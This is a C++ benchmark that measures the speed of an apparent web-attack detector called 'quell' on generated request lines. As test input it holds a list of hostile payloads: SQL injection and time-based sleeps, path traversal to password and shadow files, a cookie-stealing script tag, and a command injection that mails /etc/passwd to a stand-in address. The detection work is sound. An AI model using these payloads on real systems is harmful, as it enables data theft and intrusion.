// links: attack
// How fast requests are judged, on one thread: payloads as `quell detect` gets them, request lines
// as a log has them, and ordinary lines through the look that only says "plainly harmless".
//   cmake --build --preset release --target attack_bench && build/release/bench/attack_bench
#include <algorithm>
#include <chrono>
#include <cstddef>
#include <cstdio>
#include <random>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "attack/classify.h"
#include "attack/detect_line.h"
#include "attack/quick.h"

namespace {

using namespace quell;  // NOLINT(google-build-using-namespace): a program of its own
using namespace quell::attack;

using Texts = std::vector<std::string>;

class Generator {
 public:
  std::string one_of(std::span<const std::string_view> choices) {
    return std::string(choices[random_() % choices.size()]);
  }
  std::string number() { return std::to_string(random_() % 5000); }
  bool chance(unsigned percent) { return random_() % 100 < percent; }

  std::string attack() {
    static constexpr std::string_view kAttacks[] = {
        "' or 'a'='a",
        "1 union select null,version(),user()-- -",
        "x') or ('1'='1",
        "1; waitfor delay '0:0:5'--",
        "x' and (select count(*) from users where id>3)>0 and 'a'='a",
        "7/**/and/**/sleep(3)#",
        "' order by 12-- ",
        "x\" or 1=1 #",
        "x'||(select password from accounts limit 1)||'",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/shadow",
        "/proc/self/environ",
        "<script>alert(document.cookie)</script>",
        ";cat /etc/passwd|mail x@y.example",
        "if(now()=sysdate(),sleep(9),0)/*'xor(if(1=1,sleep(9),0))or'*/",
        "1 and extractvalue(1,concat(0x7e,(select table_name from information_schema.tables)))"};
    return number() + one_of(kAttacks);
  }

  std::string ordinary() {
    static constexpr std::string_view kOrdinary[] = {"red running shoes",
                                                     "salt and pepper",
                                                     "2026-11-22",
                                                     "shell-steel",
                                                     "Müller & Söhne",
                                                     "page",
                                                     "3",
                                                     "8f14e45fceea167a5a36dedd4bea2543",
                                                     "https://shop.example/cart?step=2",
                                                     "select committee reports",
                                                     "ana@shop.example",
                                                     "12:30",
                                                     "size:42",
                                                     "{\"filter\":{\"colour\":\"red\",\"max\":50}}",
                                                     "it's a wonderful life",
                                                     "C++ (2nd edition)"};
    return one_of(kOrdinary);
  }

  /// As browsers and attackers' tools encode a query.
  std::string encoded(std::string_view value) {
    static constexpr std::string_view kHex = "0123456789ABCDEF";
    std::string out;
    for (const char c : value) {
      const auto byte = static_cast<unsigned char>(c);
      const bool plain = (byte >= '0' && byte <= '9') || (byte >= 'a' && byte <= 'z') ||
                         (byte >= 'A' && byte <= 'Z') || c == '-' || c == '.' || c == '_';
      if (plain) {
        out += c;
      } else {
        out += '%';
        out += kHex[byte >> 4U];
        out += kHex[byte & 15U];
      }
    }
    return out;
  }

  std::string target(const std::string& value) {
    static constexpr std::string_view kPaths[] = {"/search", "/shop/items", "/api/v2/orders",
                                                  "/index.php", "/login"};
    return one_of(kPaths) + "?page=" + number() + "&q=" + encoded(value);
  }

  std::string ordinary_target() {
    static constexpr std::string_view kTargets[] = {
        "/scripts/app.3f2a91.js",
        "/union/select-committee",
        "/img/products/1042.jpg",
        "/",
        "/search?q=salt+and+pepper&page=2",
        "/search?q=select%20shoes",
        "/shop/item/shell-steel?utm_source=mail&utm_campaign=autumn-2026",
        "/login?next=https%3A%2F%2Fshop.example%2Faccount%2Forders%3Fpage%3D2",
        "/api/v1/orders/5f2b1c9e-7d1a-4a3e-9d2f-0a1b2c3d4e5f?from=2026-11-01&to=2026-11-22",
        "/caf%C3%A9/men%C3%BC?lang=de",
        "/fonts/inter-v12-latin-600.woff2"};
    return one_of(kTargets);
  }

 private:
  std::mt19937 random_{20261122};
};

constexpr std::string_view kAgent =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36";
constexpr std::string_view kReferer = "https://shop.example/search?q=shoes&page=2";

std::size_t bytes_of(const Texts& texts) {
  std::size_t sum = 0;
  for (const std::string& text : texts) sum += text.size();
  return sum;
}

/// Runs `judge` over all texts for a second and more, and reports the fastest round: others may be
/// using the machine. `judge` says whether to count the text.
template <class Judge>
void measure(const char* what, const Texts& texts, const Judge& judge) {
  using Clock = std::chrono::steady_clock;
  std::size_t counted = 0;
  double best = 0;
  double total = 0;
  while (total < 1) {
    counted = 0;
    const auto start = Clock::now();
    for (const std::string& text : texts) counted += judge(text) ? 1 : 0;
    const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
    best = best == 0 ? seconds : std::min(best, seconds);
    total += seconds;
  }
  const auto count = static_cast<double>(texts.size());
  const auto bytes = static_cast<double>(bytes_of(texts));
  std::printf("%-42s %7.0f k/s  %6.0f ns each  %5.2f ns/byte  %5.1f bytes  counted %5.1f %%\n",
              what, count / best / 1e3, best * 1e9 / count, best * 1e9 / bytes, bytes / count,
              100.0 * static_cast<double>(counted) / count);
}

}  // namespace

int main() {
  constexpr std::size_t kTexts = 20'000;
  Generator generator;
  Texts lines;
  Texts attacks;
  Texts ordinary;
  for (std::size_t i = 0; i < kTexts; ++i) {
    const std::string value = generator.chance(50) ? generator.attack() : generator.ordinary();
    lines.push_back("query\t" + (generator.chance(30) ? generator.encoded(value) : value));
    attacks.push_back(generator.target(generator.attack()));
    ordinary.push_back(generator.ordinary_target());
  }

  Detector detector;
  std::string out;
  measure("quell detect: half attacks, with words", lines, [&](const std::string& line) {
    out.clear();
    return detector.answer(line, out) == Answer::kAttack;
  });
  QuickJudge judge;
  const auto request = [&](const std::string& target) {
    return judge
        .judge({.method = "GET", .target = target, .referer = kReferer, .user_agent = kAgent})
        .is_attack();
  };
  measure("attacks: target, referer and agent", attacks, request);
  measure("attacks: target alone", attacks, [&](const std::string& target) {
    return judge.judge(Where::kTarget, target).is_attack();
  });
  measure("attacks: with words (classify)", attacks,
          [&](const std::string& target) { return classify(Where::kTarget, target).is_attack(); });
  measure("ordinary: target, referer and agent", ordinary, request);
  measure("ordinary: target, the quick look", ordinary,
          [&](const std::string& target) { return is_plainly_harmless_target(target); });
  Texts headers;
  for (std::size_t i = 0; i < kTexts; ++i) headers.emplace_back(i % 2 == 0 ? kAgent : kReferer);
  measure("ordinary: headers, the quick look", headers,
          [&](const std::string& value) { return is_plainly_harmless_header(value); });
}
